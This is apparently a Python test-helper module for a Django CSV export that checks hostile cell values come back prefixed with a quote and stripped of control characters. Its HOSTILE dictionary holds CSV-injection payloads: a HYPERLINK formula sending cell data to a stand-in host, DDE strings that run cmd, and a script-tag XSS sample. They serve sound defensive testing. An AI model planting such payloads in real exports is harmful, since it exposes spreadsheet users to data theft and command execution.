"""Helpers the export tests share: hostile values, what they must read back as, and reading a CSV
response back. Mirror rows come from tests/factories.py."""

from __future__ import annotations

import csv
import io

# Values that break naive exports: formula starters (OWASP's list and the full-width forms),
# RFC 4180's specials, control characters, non-Latin text, emoji, HTML.
HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-5 apples",
    "minus_number": "-5",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
    "nul_then_formula": "\x00=1+1",
    "quotes": 'She said "hi", then left',
    "comma": "a,b,c",
    "newlines": "line one\nline two\r\nline three\rline four",
    "latin": "Zoë Ünal — café",
    "cyrillic": "Привет, мир",
    "cjk": "日本語のメール 你好",
    "arabic": "مرحبا بالعالم",
    "emoji": "Thanks 👍🏽 🎉 👨‍👩‍👧",
    "html": "<script>alert(1)</script><b onclick=\"x()\">bold</b>",
    "controls": "bell\x07 vt\x0b ff\x0c esc\x1b del\x7f end",
}


def storable(values: dict[str, str]) -> dict[str, str]:
    """The values this database can hold: PostgreSQL text never holds NUL (the writer's own
    tests cover NULs without a database)."""
    from django.db import connection

    if connection.vendor == "postgresql":
        return {k: v for k, v in values.items() if "\x00" not in v}
    return values


def expected_text(value: str) -> str:
    """What a hostile value must read back as from the CSV."""
    cleaned = "".join(c for c in value if c in "\t\n\r" or not (ord(c) < 32 or ord(c) == 127))
    if cleaned and cleaned[0] in "=+-@\t\r＝＋－＠":
        return "'" + cleaned
    return cleaned


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "the export must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def response_bytes(response) -> bytes:
    return b"".join(response.streaming_content)
